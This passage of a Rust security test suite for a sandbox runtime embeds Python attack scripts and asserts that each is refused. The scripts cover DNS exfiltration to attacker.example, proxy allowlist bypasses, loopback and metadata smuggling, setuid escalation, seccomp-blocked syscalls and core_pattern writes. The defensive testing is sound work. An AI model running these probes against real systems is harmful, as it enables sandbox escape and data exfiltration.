            "userfaultfd", "console", "tty0", "vsock", "vhost-vsock", "kmsg", "cpu/0/msr"):
    attempt(dev, lambda: os.close(os.open(f"/dev/{dev}", os.O_RDWR)))
attempt("create", lambda: open("/dev/evil", "w"))
report("entries", ",".join(sorted(os.listdir("/dev"))))
"#,
    );
    for dev in [
        "mem",
        "kmem",
        "port",
        "kvm",
        "sda",
        "vda",
        "nvme0n1",
        "loop0",
        "fuse",
        "net/tun",
        "userfaultfd",
        "console",
        "tty0",
        "vsock",
        "vhost-vsock",
        "kmsg",
        "cpu/0/msr",
    ] {
        r.refused(dev, "ENOENT");
    }
    r.refused("create", "EROFS");
    let allowed = [
        "core", "fd", "full", "null", "ptmx", "pts", "random", "shm", "stderr", "stdin", "stdout",
        "tty", "urandom", "zero",
    ];
    for entry in r.get("entries").split(',') {
        assert!(
            allowed.contains(&entry),
            "unexpected /dev/{entry}: {}",
            r.text
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Raw and packet sockets

/// Attack: sniff with an `AF_PACKET` socket while the host sends datagrams on its loopback and
/// to its own address, and bind it to the host's `eth0`. Defence: CAP_NET_RAW is not in the
/// sandbox's capability set (EPERM); behind that, the sandbox's network namespace has only its
/// own `lo`.
#[test]
fn a_packet_socket_sees_only_the_sandboxs_loopback() {
    let env = Env::new();
    let payload = nonce("sniff");
    let sink = std::net::UdpSocket::bind("0.0.0.0:0").expect("udp sink");
    let port = sink.local_addr().expect("addr").port();
    let stop_sending = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let sender = {
        let stop_sending = stop_sending.clone();
        let payload = payload.clone();
        let ip = host_ip();
        std::thread::spawn(move || {
            let s = std::net::UdpSocket::bind("0.0.0.0:0").expect("udp");
            while !stop_sending.load(std::sync::atomic::Ordering::Relaxed) {
                let _ = s.send_to(payload.as_bytes(), ("127.0.0.1", port));
                let _ = s.send_to(payload.as_bytes(), (ip, port));
                std::thread::sleep(Duration::from_millis(20));
            }
        })
    };
    let r = attack(
        &env,
        &format!(
            r#"
report("interfaces", ",".join(n for _, n in socket.if_nameindex()))
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    report("packet", "ok")
    attempt("bind_eth0", lambda: s.bind(("eth0", 0)))
    s.settimeout(0.2)
    seen, end = False, time.time() + 2
    while time.time() < end:
        try:
            seen = seen or b"{payload}" in s.recv(65536)
        except socket.timeout:
            pass
    report("seen", seen)
except OSError as e:
    report("packet", err(e.errno))
"#
        ),
    );
    stop_sending.store(true, std::sync::atomic::Ordering::Relaxed);
    sender.join().expect("sender");
    assert_eq!(r.get("interfaces"), "lo");
    // CAP_NET_RAW is not in the sandbox's set: a packet socket is refused outright (a set that
    // regained it must fail here, even though the namespace would still hold).
    r.refused("packet", "EPERM");
}

/// Attack: send raw IP (ICMP echo, and a hand-made IP header with `IPPROTO_RAW` spoofing the
/// source) to the host's address and to the internet. Defence: the sandbox's capability set
/// has no CAP_NET_RAW, so both raw sockets are refused (EPERM); behind that, no route leaves
/// the sandbox's namespace.
#[test]
fn a_raw_ip_socket_reaches_nothing() {
    let env = Env::new();
    let ip = host_ip();
    let r = attack(
        &env,
        &format!(
            r#"
def raw(name, proto):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto)
        report(name, "ok")
        return s
    except OSError as e:
        report(name, err(e.errno))
icmp = raw("icmp_socket", socket.IPPROTO_ICMP)
echo = struct.pack("!BBHHH", 8, 0, 0xf7fe, 1, 0)
if icmp:
    for name, dst in (("host", "{ip}"), ("internet", "1.1.1.1")):
        attempt(f"icmp_{{name}}", lambda: icmp.sendto(echo, (dst, 0)))
spoof = raw("raw_socket", socket.IPPROTO_RAW)
header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, 17, 0,
                     socket.inet_aton("127.0.0.1"), socket.inet_aton("{ip}"))
if spoof:
    attempt("spoofed", lambda: spoof.sendto(header + bytes(8), ("{ip}", 0)))
"#
        ),
    );
    // Without CAP_NET_RAW both raw sockets are refused outright.
    r.refused("icmp_socket", "EPERM");
    r.refused("raw_socket", "EPERM");
}

// ---------------------------------------------------------------------------------------------
// Network

/// Attack: connect to a server the test runs on the host's loopback, the internet and a
/// typical host gateway. Defence: the sandbox's loopback is its own (the host's port is
/// refused there), and nothing else is routed (unreachable); the host's listener gets nothing.
/// (Moved here from isolation.rs.)
#[test]
fn the_network_is_loopback_only_and_the_host_loopback_is_not_it() {
    let env = Env::new();
    // A service on the host's loopback: the sandbox's own loopback must not reach it.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!(
        "import socket\n\
         for host, port in [('127.0.0.1', {port}), ('1.1.1.1', 80), ('10.0.2.2', 80)]:\n\
         \x20   s = socket.socket(); s.settimeout(2)\n\
         \x20   try:\n\
         \x20       s.connect((host, port)); print(host, 'connected')\n\
         \x20   except OSError as e:\n\
         \x20       print(host, 'refused' if isinstance(e, ConnectionRefusedError) else 'unreachable')\n\
         srv = socket.socket(); srv.bind(('127.0.0.1', 8080)); srv.listen()\n\
         c = socket.create_connection(('127.0.0.1', 8080)); print('own loopback works')\n"
    );
    let out = env.output(["run", "--", "python3", "-c", &script]);
    assert_ok(&out);
    let text = stdout(&out);
    assert!(
        !text.contains("connected"),
        "the sandbox reached a network: {text}"
    );
    assert!(text.contains("127.0.0.1 refused"), "{text}");
    assert!(text.contains("1.1.1.1 unreachable"), "{text}");
    assert!(text.contains("own loopback works"), "{text}");
    // Nothing arrived at the host's listener.
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err());
}

/// Attack: reach TCP and UDP servers the test runs on the host's non-loopback address.
/// Defence: no route out of the sandbox's namespace (ENETUNREACH at once); nothing arrives.
#[test]
fn reaching_a_server_on_the_hosts_own_address() {
    let env = Env::new();
    let ip = host_ip();
    let tcp = std::net::TcpListener::bind("0.0.0.0:0").expect("tcp");
    let udp = std::net::UdpSocket::bind("0.0.0.0:0").expect("udp");
    let (tport, uport) = (
        tcp.local_addr().expect("addr").port(),
        udp.local_addr().expect("addr").port(),
    );
    let r = attack(
        &env,
        &format!(
            r#"
s = socket.socket(); s.settimeout(3)
attempt("tcp", lambda: s.connect(("{ip}", {tport})))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("udp", lambda: u.sendto(b"hello host", ("{ip}", {uport})))
"#
        ),
    );
    r.refused("tcp", "ENETUNREACH");
    r.refused("udp", "ENETUNREACH");
    tcp.set_nonblocking(true).expect("nonblocking");
    assert!(tcp.accept().is_err(), "the host's TCP server was reached");
    udp.set_nonblocking(true).expect("nonblocking");
    let mut buf = [0u8; 64];
    assert!(
        udp.recv(&mut buf).is_err(),
        "the host's UDP server got a datagram"
    );
}

/// Attack: with the default network policy (`none`), connect to public addresses (IPv4 and
/// IPv6), the cloud metadata address and the host's SSH port; then ask the egress proxy
/// (`127.0.0.1:3128` inside) for a server the test runs on the host (by its own address and
/// by loopback, plain HTTP and CONNECT). Defence: no route at all (ENETUNREACH, at once), and
/// the proxy answers 403 without connecting anywhere: the host's server gets nothing.
#[test]
fn any_network_with_policy_none() {
    let s = served();
    let ip = host_ip();
    let host = std::net::TcpListener::bind("0.0.0.0:0").expect("host server");
    let port = host.local_addr().expect("addr").port();
    let r = attack_api(
        &s.api,
        &s.id,
        &format!(
            r#"
slowest = 0
for name, fam, addr in (("cloudflare", socket.AF_INET, ("1.1.1.1", 443)),
                        ("google_dns", socket.AF_INET, ("8.8.8.8", 53)),
                        ("metadata", socket.AF_INET, ("169.254.169.254", 80)),
                        ("host_ssh", socket.AF_INET, ("{ip}", 22)),
                        ("ipv6", socket.AF_INET6, ("2606:4700:4700::1111", 443))):
    s = socket.socket(fam); s.settimeout(5)
    start = time.time()
    attempt(name, lambda: s.connect(addr))
    slowest = max(slowest, time.time() - start)
report("slowest", slowest < 1)
{PROXY_PY}
report("proxy_host_ip", proxy("GET http://{ip}:{port}/ HTTP/1.1\r\nHost: {ip}:{port}\r\n\r\n"))
report("proxy_loopback", proxy("GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"))
report("proxy_connect", proxy("CONNECT {ip}:{port} HTTP/1.1\r\nHost: {ip}:{port}\r\n\r\n"))
"#
        ),
    );
    for name in ["cloudflare", "google_dns", "metadata", "host_ssh", "ipv6"] {
        r.refused(name, "ENETUNREACH");
    }
    assert_eq!(r.get("slowest"), "True", "a refusal hung: {}", r.text);
    for name in ["proxy_host_ip", "proxy_loopback", "proxy_connect"] {
        assert_eq!(r.get(name), "403", "{name}: {}", r.text);
    }
    host.set_nonblocking(true).expect("nonblocking");
    assert!(host.accept().is_err(), "the host's server was reached");
}

/// Attack: exfiltrate data over DNS: UDP/53 queries to public resolvers, to the host's own
/// resolver and to a fake resolver the test runs on the host, and `getaddrinfo` of an
/// attacker's name. Defence: no route out (ENETUNREACH at once) and the lookup fails fast;
/// the fake resolver receives nothing.
#[test]
fn dns_exfiltration() {
    let env = Env::new();
    let ip = host_ip();
    let fake = std::net::UdpSocket::bind("0.0.0.0:0").expect("fake resolver");
    let fport = fake.local_addr().expect("addr").port();
    let resolver = std::fs::read_to_string("/etc/resolv.conf")
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix("nameserver ").map(|s| s.trim().to_string()))
        .filter(|s| s.parse::<std::net::Ipv4Addr>().is_ok())
        .unwrap_or_else(|| "9.9.9.9".to_string());
    let name = nonce("exfil");
    let r = attack(
        &env,
        &format!(
            r#"
query = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
query += b"".join(bytes([len(p)]) + p.encode() for p in "{name}.attacker.example".split(".")) + b"\0"
query += struct.pack("!HH", 1, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for key, addr in (("google", ("8.8.8.8", 53)), ("quad9", ("9.9.9.9", 53)),
                  ("host_resolver", ("{resolver}", 53)), ("fake", ("{ip}", {fport}))):
    attempt(key, lambda: u.sendto(query, addr))
start = time.time()
try:
    socket.getaddrinfo("{name}.attacker.example", 80)
    report("lookup", "resolved")
except socket.gaierror:
    report("lookup", "failed")
report("lookup_fast", time.time() - start < 5)
"#
        ),
    );
    for key in ["google", "quad9", "host_resolver", "fake"] {
        r.refused(key, "ENETUNREACH");
    }
    assert_eq!(r.get("lookup"), "failed");
    assert_eq!(r.get("lookup_fast"), "True");
    fake.set_nonblocking(true).expect("nonblocking");
    let mut buf = [0u8; 512];
    assert!(
        fake.recv(&mut buf).is_err(),
        "the fake resolver got a query"
    );
}

/// A TCP server on the host that answers every connection with a small HTTP 200 and counts
/// them.
struct HostServer {
    port: u16,
    hits: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl HostServer {
    fn start(addr: &str) -> Self {
        use std::io::Write;
        let listener = std::net::TcpListener::bind(addr).expect("bind host server");
        let port = listener.local_addr().expect("addr").port();
        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counter = hits.clone();
        std::thread::spawn(move || {
            for mut conn in listener.incoming().flatten() {
                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                // Read the request head first: closing with it unread would reset the
                // connection before the answer arrives.
                let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n")
                    && std::io::Read::read(&mut conn, &mut byte).is_ok_and(|n| n == 1)
                {
                    head.push(byte[0]);
                }
                let _ = conn.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
                );
            }
        });
        Self { port, hits }
    }

    fn hits(&self) -> usize {
        self.hits.load(std::sync::atomic::Ordering::SeqCst)
    }
}

/// Attack: get past an allowlist of one name with request tricks: another host in the URI
/// with the allowed one in `Host`, CONNECT to another name, the allowed name as a prefix
/// (`allowed.test.evil.test`) or as URI user info (`allowed.test@evil.test`), a fragment, an
/// origin-form request naming the other host only in `Host`, and the other server's address
/// literal. Defence: the proxy judges the request's target (name before DNS, or address)
/// against the allowlist: every trick is refused (4xx) and the other server gets nothing,
/// while the allowed name is served.
#[test]
fn egress_allowlist_bypass_tricks() {
    let allowed = HostServer::start("127.0.0.1:0");
    let evil = HostServer::start("127.0.0.1:0");
    let s = served_with(
        &[
            "--egress-resolve",
            "allowed.test:127.0.0.1",
            "--egress-resolve",
            "evil.test:127.0.0.1",
        ],
        json!({"network": {"mode": "allowlist", "allow": ["allowed.test"]}}),
    );
    let (a, e) = (allowed.port, evil.port);
    let r = attack_api(
        &s.api,
        &s.id,
        &format!(
            r#"
{PROXY_PY}
report("control", proxy("GET http://allowed.test:{a}/ HTTP/1.1\r\nHost: allowed.test:{a}\r\n\r\n"))
tricks = {{
    "host_header": "GET http://evil.test:{e}/ HTTP/1.1\r\nHost: allowed.test:{a}\r\n\r\n",
    "connect": "CONNECT evil.test:{e} HTTP/1.1\r\nHost: allowed.test:{a}\r\n\r\n",
    "prefix": "GET http://allowed.test.evil.test:{e}/ HTTP/1.1\r\nHost: allowed.test.evil.test\r\n\r\n",
    "userinfo": "GET http://allowed.test@evil.test:{e}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "fragment": "GET http://evil.test:{e}/#allowed.test HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "origin_form": "GET / HTTP/1.1\r\nHost: evil.test:{e}\r\n\r\n",
    "address": "GET http://127.0.0.1:{e}/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "connect_address": "CONNECT 127.0.0.1:{e} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
}}
for name, raw in tricks.items():
    report(name, proxy(raw))
"#
        ),
    );
    assert_eq!(r.get("control"), "200", "{}", r.text);
    for trick in [
        "host_header",
        "connect",
        "prefix",
        "userinfo",
        "fragment",
        "origin_form",
        "address",
        "connect_address",
    ] {
        let status = r.get(trick);
        assert!(
            status.starts_with('4') || status == "closed",
            "{trick} got {status}: {}",
            r.text
        );
    }
    assert_eq!(evil.hits(), 0, "the other server was reached: {}", r.text);
    assert_eq!(allowed.hits(), 1);
}

/// Attack: with an allowlist open to the internet (`0.0.0.0/0`), reach a server the test runs
/// on the host's own non-loopback address through the egress proxy (plain HTTP and CONNECT).
/// Defence: the host's own addresses are never reached unless a CIDR names them (403); the
/// server gets nothing.
#[test]
fn the_hosts_own_address_through_an_open_allowlist() {
    let host = HostServer::start("0.0.0.0:0");
    let ip = host_ip();
    let s = served_with(
        &[],
        json!({"network": {"mode": "allowlist", "allow": ["0.0.0.0/0"]}}),
    );
    let p = host.port;
    let r = attack_api(
        &s.api,
        &s.id,
        &format!(
            r#"
{PROXY_PY}
report("get", proxy("GET http://{ip}:{p}/ HTTP/1.1\r\nHost: {ip}:{p}\r\n\r\n"))
report("connect", proxy("CONNECT {ip}:{p} HTTP/1.1\r\nHost: {ip}:{p}\r\n\r\n"))
"#
        ),
    );
    assert_eq!(r.get("get"), "403", "{}", r.text);
    assert_eq!(r.get("connect"), "403", "{}", r.text);
    assert_eq!(host.hits(), 0, "the host's own address was reached");
}

/// Attack: with an allowlist open to the whole internet (`0.0.0.0/0`, `::/0`) and the name
/// `localhost`, reach a server on the host's loopback through the proxy: by `127.0.0.1`, by an
/// allowed name that resolves to loopback (as a DNS-rebinding name would), `0.0.0.0`, the
/// IPv4-mapped IPv6 form, `[::1]`, shorthand and decimal forms, CONNECT, and the cloud
/// metadata address. Defence: addresses in never-reached ranges (loopback, unspecified,
/// link-local) are refused unless a CIDR inside them is listed (403); the server gets
/// nothing.
#[test]
fn loopback_smuggled_through_an_open_allowlist() {
    let host = HostServer::start("127.0.0.1:0");
    let s = served_with(
        &[],
        json!({"network": {"mode": "allowlist", "allow": ["0.0.0.0/0", "::/0", "localhost"]}}),
    );
    let p = host.port;
    let r = attack_api(
        &s.api,
        &s.id,
        &format!(
            r#"
{PROXY_PY}
targets = {{
    "ip": "127.0.0.1:{p}", "name": "localhost:{p}", "unspecified": "0.0.0.0:{p}",
    "mapped": "[::ffff:127.0.0.1]:{p}", "ipv6": "[::1]:{p}", "short": "127.1:{p}",
    "decimal": "2130706433:{p}", "metadata": "169.254.169.254:80",
}}
for name, target in targets.items():
    report(name, proxy(f"GET http://{{target}}/ HTTP/1.1\r\nHost: {{target}}\r\n\r\n"))
report("connect", proxy("CONNECT 127.0.0.1:{p} HTTP/1.1\r\nHost: 127.0.0.1:{p}\r\n\r\n"))
"#
        ),
    );
    for name in [
        "ip",
        "name",
        "unspecified",
        "mapped",
        "ipv6",
        "short",
        "decimal",
        "metadata",
        "connect",
    ] {
        let status = r.get(name);
        assert!(status.starts_with('4'), "{name} got {status}: {}", r.text);
    }
    assert_eq!(
        host.hits(),
        0,
        "the host's loopback was reached: {}",
        r.text
    );
}

/// Attack: use a port preview (`/v1/sandboxes/{id}/ports/{port}/`) to reach a server on the
/// host's loopback, and the openrun server's own port. Defence: the agent connects to the
/// port inside the sandbox's own network namespace, where nothing listens: 502
/// `port_closed`; the host's server gets nothing.
#[test]
fn previews_into_the_hosts_loopback() {
    let host = HostServer::start("127.0.0.1:0");
    let s = served();
    let server_port: u16 = s
        .api
        .url
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .expect("server port");
    for port in [host.port, server_port] {
        expect_error(
            s.api
                .get(&format!("/v1/sandboxes/{}/ports/{port}/v1/health", s.id)),
            502,
            "port_closed",
        );
    }
    assert_eq!(host.hits(), 0, "the host's loopback was reached");
}

/// Attack: connect to an abstract Unix socket the host listens on (abstract sockets have no
/// file to hide; containers sharing the host's network namespace have escaped through
/// them). Defence: abstract sockets belong to a network namespace (ECONNREFUSED); the host's
/// listener gets nothing.
#[test]
fn an_abstract_unix_socket_of_the_host() {
    use std::os::linux::net::SocketAddrExt;
    let env = Env::new();
    let name = nonce("abstract");
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes())
        .expect("abstract address");
    let listener = std::os::unix::net::UnixListener::bind_addr(&addr).expect("bind");
    let r = attack(
        &env,
        &format!(
            r#"
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
attempt("connect", lambda: s.connect("\0{name}"))
"#
        ),
    );
    r.refused("connect", "ECONNREFUSED");
    listener.set_nonblocking(true).expect("nonblocking");
    assert!(
        listener.accept().is_err(),
        "the host's abstract socket was reached"
    );
}

/// Attack: connect to an abstract Unix socket another sandbox listens on. Defence: each
/// sandbox has its own network namespace (ECONNREFUSED), while inside its own sandbox the
/// socket answers.
#[test]
fn an_abstract_unix_socket_of_another_sandbox() {
    let env = Env::new();
    let name = nonce("abstract-sb");
    let victim = env.create(&[]);
    let server = format!(
        "import socket, time\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0{name}')\n\
         s.listen()\nwhile True: s.accept()"
    );
    let listening = spawn_exec(&env, &victim, &["python3", "-c", &server]);
    let probe = format!(
        r#"
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
for _ in range(50):
    try:
        s.connect("\0{name}")
        report("connect", "ok")
        break
    except ConnectionRefusedError:
        time.sleep(0.1)
else:
    report("connect", "ECONNREFUSED")
"#
    );
    let own = attack_in(&env, &victim, &probe);
    assert_eq!(
        own.get("connect"),
        "ok",
        "the listener runs in its own sandbox"
    );
    let attacker = env.create(&[]);
    let r = attack_in(
        &env,
        &attacker,
        &format!(
            r#"
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
attempt("connect", lambda: s.connect("\0{name}"))
"#
        ),
    );
    r.refused("connect", "ECONNREFUSED");
    stop(listening);
}

// ---------------------------------------------------------------------------------------------
// IPC

/// Attack: attach to a System V shared memory segment another sandbox created (same key).
/// Defence: each sandbox has its own IPC namespace (ENOENT), and so has the host.
#[test]
fn sysv_shared_memory_of_another_sandbox() {
    let env = Env::new();
    let victim = env.create(&[]);
    let key = 0x0bad_c0de_u32;
    let create = attack_in(
        &env,
        &victim,
        &format!("report('create', 'ok' if libc.shmget({key}, 4096, 0o1666) >= 0 else err(ctypes.get_errno()))"),
    );
    assert_eq!(create.get("create"), "ok");
    let attacker = env.create(&[]);
    let r = attack_in(
        &env,
        &attacker,
        &format!(
            "report('get', 'ok' if libc.shmget({key}, 0, 0) >= 0 else err(ctypes.get_errno()))"
        ),
    );
    r.refused("get", "ENOENT");
    // SAFETY: shmget is a plain syscall with integer arguments.
    let host = unsafe { libc::shmget(key as libc::key_t, 0, 0) };
    assert_eq!(host, -1, "the sandbox's segment is visible on the host");
}

// ---------------------------------------------------------------------------------------------
// Privilege

/// Attack: a setuid-root copy of Python (made by the sandbox's root in its writable layer, `/tmp`
/// and `/dev/shm`) run by an unprivileged user to become root. Defence: `no_new_privs` and
/// `nosuid` mounts (the effective uid stays 65534), `noexec` on `/dev/shm` (EACCES).
#[test]
fn a_setuid_root_copy_gains_no_privilege() {
    let env = Env::new();
    let r = attack(
        &env,
        r#"
import shutil
py = os.path.realpath(sys.executable)
os.makedirs("/srv/suid", exist_ok=True)
os.chmod("/srv/suid", 0o755)
for key, where in (("layer", "/srv/suid/py"), ("tmp", "/tmp/py"), ("shm", "/dev/shm/py")):
    shutil.copy(py, where)
    os.chown(where, 0, 0)
    os.chmod(where, 0o4755)
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        os.dup2(w, 1)
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)
        try:
            os.execv(where, [where, "-c", "import os; print(os.geteuid(), end='')"])
        except OSError as e:
            print(err(e.errno), end="", flush=True)
            os._exit(1)
    os.close(w)
    out = os.read(r, 100).decode()
    os.waitpid(pid, 0)
    report(key, out)
    report(f"{key}_mode", oct(os.stat(where).st_mode & 0o7777))
report("nnp", [l for l in open("/proc/self/status") if l.startswith("NoNewPrivs")][0].split()[1])
"#,
    );
    assert_eq!(r.get("layer_mode"), "0o4755", "the setuid bit was set");
    assert_eq!(r.get("layer"), "65534", "setuid gave root: {}", r.text);
    assert_eq!(r.get("tmp"), "65534", "setuid gave root: {}", r.text);
    r.refused("shm", "EACCES");
    assert_eq!(r.get("nnp"), "1");
}

/// Attack: plant a setuid-root binary in the writable layer, hoping it becomes a setuid-root
/// binary on the host (where the layer lives on disk). Defence: the file's host owner is the
/// sandbox's unprivileged host uid (never 0), and the layer directory is private to that uid
/// (mode 0700), so no other host user can even reach it.
#[test]
fn a_setuid_file_planted_in_the_layer_is_no_host_setuid_root_binary() {
    let env = Env::new();
    let id = env.create(&[]);
    assert_ok(&env.exec_sh(
        &id,
        "cp /usr/bin/id /root/suid-id && chown 0:0 /root/suid-id && chmod 4755 /root/suid-id",
    ));
    let planted = env.upper_dir(&id).join("root/suid-id");
    let meta = std::fs::metadata(&planted).expect("the file is in the layer");
    assert_ne!(meta.uid(), 0, "the planted file is owned by host root");
    assert!(
        meta.uid() >= 1 << 30,
        "owner {} is a low host uid",
        meta.uid()
    );
    assert!(
        meta.mode() & 0o4000 == 0 || meta.uid() != 0,
        "a setuid-root binary exists on the host"
    );
    let layer = std::fs::metadata(env.layer_dir(&id)).expect("layer dir");
    assert_eq!(
        layer.mode() & 0o777,
        0o700,
        "the layer dir is reachable by others"
    );
    assert_eq!(layer.uid(), meta.uid());
}

// ---------------------------------------------------------------------------------------------
// Kernel interfaces

/// Attack: use the kernel keyring (not namespaced: shared with the host): add a key, join a
/// new session keyring, request a key, and read `/proc/keys`. Defence: the seccomp filter
/// refuses the calls (EPERM) and `/proc/keys` is masked (nothing to read).
#[test]
fn the_kernel_keyring() {
    let env = Env::new();
    let r = attack(
        &env,
        r#"
report("add_key", sc(248, b"user", b"openrun-attack", b"payload", 7, -2))
report("join", sc(250, 1, None))
report("request_key", sc(249, b"user", b"openrun-attack", None, 0))
try:
    report("proc_keys", len(open("/proc/keys").read()))
except OSError as e:
    report("proc_keys", err(e.errno))
"#,
    );
    r.refused("add_key", "EPERM");
    r.refused("join", "EPERM");
    r.refused("request_key", "EPERM");
    let keys = r.get("proc_keys");
    assert!(
        keys == "0" || keys == "ENOENT" || keys == "EACCES",
        "{}",
        r.text
    );
}

/// Attack: load a (valid, two-instruction) eBPF socket filter and create a BPF map.
/// Defence: EPERM (unprivileged bpf is off on the host and the seccomp filter refuses `bpf`).
#[test]
fn bpf_programs_and_maps() {
    let env = Env::new();
    let r = attack(
        &env,
        r#"
insns = ctypes.create_string_buffer(struct.pack("<BBhi", 0xb7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0))
lic = ctypes.create_string_buffer(b"GPL")
attr = ctypes.create_string_buffer(struct.pack("<IIQQIIQI", 1, 2, ctypes.addressof(insns), ctypes.addressof(lic), 0, 0, 0, 0), 128)
report("prog_load", sc(321, 5, attr, 128))
mattr = ctypes.create_string_buffer(struct.pack("<IIII", 2, 4, 4, 1), 128)
report("map_create", sc(321, 0, mattr, 128))
"#,
    );
    r.refused("prog_load", "EPERM");
    r.refused("map_create", "EPERM");
}

/// Attack: create a userfaultfd (a favourite primitive to win kernel races), also in the
/// user-mode-only flavour the host's sysctl allows to anyone. Defence: the seccomp filter
/// (EPERM); no `/dev/userfaultfd` either.
#[test]
fn userfaultfd() {
    let env = Env::new();
    let r = attack(
        &env,
        r#"
report("user_mode_only", sc(323, 1))
report("plain", sc(323, 0))
report("device", os.path.exists("/dev/userfaultfd"))
"#,
    );
    r.refused("user_mode_only", "EPERM");
    r.refused("plain", "EPERM");
    assert_eq!(r.get("device"), "False");
}

/// Attack: set up an io_uring (its operations bypass seccomp) and open a perf event.
/// Defence: the seccomp filter refuses both (EPERM).
#[test]
fn io_uring_and_perf_events() {
    let env = Env::new();
    let r = attack(
        &env,
        r#"
params = ctypes.create_string_buffer(120)
report("io_uring", sc(425, 8, params))
pattr = ctypes.create_string_buffer(struct.pack("<IIQ", 1, 128, 0), 128)
report("perf", sc(298, pattr, 0, -1, -1, 0))
"#,
    );
    r.refused("io_uring", "EPERM");
    r.refused("perf", "EPERM");
}

/// Attack: change the host's clock (`settimeofday` to 2000, `clock_settime`, `adjtimex`,
/// `clock_adjtime` frequency changes). Defence: no CAP_SYS_TIME plus the seccomp filter
/// (EPERM); the host clock did not move.
#[test]
fn changing_the_host_clock() {
    let env = Env::new();
    let before = std::time::SystemTime::now();
    let r = attack(
        &env,
        r#"
tv = ctypes.create_string_buffer(struct.pack("qq", 946684800, 0))
report("settimeofday", sc(164, tv, None))
report("clock_settime", sc(227, 0, tv))
timex = ctypes.create_string_buffer(struct.pack("I", 0x2) + bytes(204))
report("adjtimex", sc(159, timex))
report("clock_adjtime", sc(305, 0, timex))
"#,
    );
    for key in ["settimeofday", "clock_settime", "adjtimex", "clock_adjtime"] {
        r.refused(key, "EPERM");
    }
    let elapsed = std::time::SystemTime::now()
        .duration_since(before)
        .expect("the host clock went backwards");
    assert!(elapsed < Duration::from_secs(120), "the host clock jumped");
}

/// Attack: rename the host (`sethostname`, `setdomainname`, writing
/// `/proc/sys/kernel/hostname`). Defence: EPERM (no CAP_SYS_ADMIN, seccomp) and a read-only or
/// root-owned `/proc/sys`; the host's hostname and the sandbox's (its id) are unchanged.
#[test]
fn changing_the_hostname() {
    let env = Env::new();
    let host_before = std::fs::read_to_string("/proc/sys/kernel/hostname").expect("hostname");
    let id = env.create(&[]);
    let r = attack_in(
        &env,
        &id,
        r#"
report("sethostname", sc(170, b"pwned", 5))
report("setdomainname", sc(171, b"pwned", 5))
attempt("proc_sys", lambda: write("/proc/sys/kernel/hostname", "pwned"))
report("uname", os.uname().nodename)
"#,
    );
    r.refused("sethostname", "EPERM");
    r.refused("setdomainname", "EPERM");
    r.refused_with_any("proc_sys", &["EACCES", "EROFS"]);
    assert_eq!(r.get("uname"), id);
    let host_after = std::fs::read_to_string("/proc/sys/kernel/hostname").expect("hostname");
    assert_eq!(host_after, host_before, "the host was renamed");
}

/// Attack: point the host's `core_pattern` at a program (the kernel would run it as host
/// root on the next crash), change the overcommit policy, drop caches, write `sysrq-trigger`. Defence:
/// `/proc/sys` is read-only in the sandbox (or its files belong to host root: EACCES), the
/// sysrq trigger is masked or refused; the host's values are unchanged.
#[test]
fn writing_core_pattern_and_other_sysctls() {
    let env = Env::new();
    let core_before = std::fs::read_to_string("/proc/sys/kernel/core_pattern").expect("read");
    let overcommit_before =
        std::fs::read_to_string("/proc/sys/vm/overcommit_memory").expect("read");
    let r = attack(
        &env,
        r#"
for key, path, value in (("core_pattern", "/proc/sys/kernel/core_pattern", "|/tmp/evil"),
                         ("overcommit", "/proc/sys/vm/overcommit_memory", "1"),
                         ("drop_caches", "/proc/sys/vm/drop_caches", "3"),
                         ("sysrq", "/proc/sysrq-trigger", "h")):
    attempt(key, lambda: write(path, value))
"#,
    );
    for key in ["core_pattern", "overcommit", "drop_caches"] {
        r.refused_with_any(key, &["EACCES", "EROFS"]);
    }
    r.refused_with_any("sysrq", &["EACCES", "EROFS", "ENOENT"]);
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/core_pattern").expect("read"),
        core_before
    );
    assert_eq!(
        std::fs::read_to_string("/proc/sys/vm/overcommit_memory").expect("read"),
        overcommit_before
    );
}

/// Attack: write host kernel settings through `/sys` (`uevent_helper`, which the kernel runs
/// as root, and other writable-looking files) and find a cgroup `release_agent` to point at a
/// program (CVE-2022-0492). Defence: `/sys` is mounted read-only (EROFS), no cgroup hierarchy
/// is mounted in the sandbox, none can be mounted (EPERM); the host's files are unchanged.
#[test]
fn writing_sysfs_and_a_cgroup_release_agent() {
    let env = Env::new();
    let helper_before = std::fs::read_to_string("/sys/kernel/uevent_helper").unwrap_or_default();
    let r = attack(
        &env,
        r#"
results = []
